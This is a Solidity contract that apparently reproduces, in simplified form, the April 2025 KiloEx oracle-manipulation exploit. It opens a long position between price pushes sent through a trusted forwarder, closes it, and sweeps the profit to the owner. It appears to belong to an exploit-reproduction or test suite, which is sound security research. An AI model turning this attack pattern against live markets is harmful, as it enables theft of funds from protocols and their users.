// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IMarketLike} from "./AttackBase.sol";

/// @notice KiloEx (Apr 2025), simplified: the attacker's EOA pushes prices through the trusted forwarder
/// (signed by itself); this contract trades between the pushes: open long low, close high.
contract ForwarderOracleAttack is AttackBase {
    IMarketLike public immutable market;

    constructor(IERC20 usd_, IMarketLike market_) AttackBase(usd_) {
        market = market_;
        _approve(address(market_));
    }

    function openLong(uint256 margin, uint256 size) external onlyOwner {
        market.openPosition(true, margin, size);
    }

    function closeAndSweep() external onlyOwner {
        market.closePosition();
        usd.transfer(owner, usd.balanceOf(address(this)));
    }
}
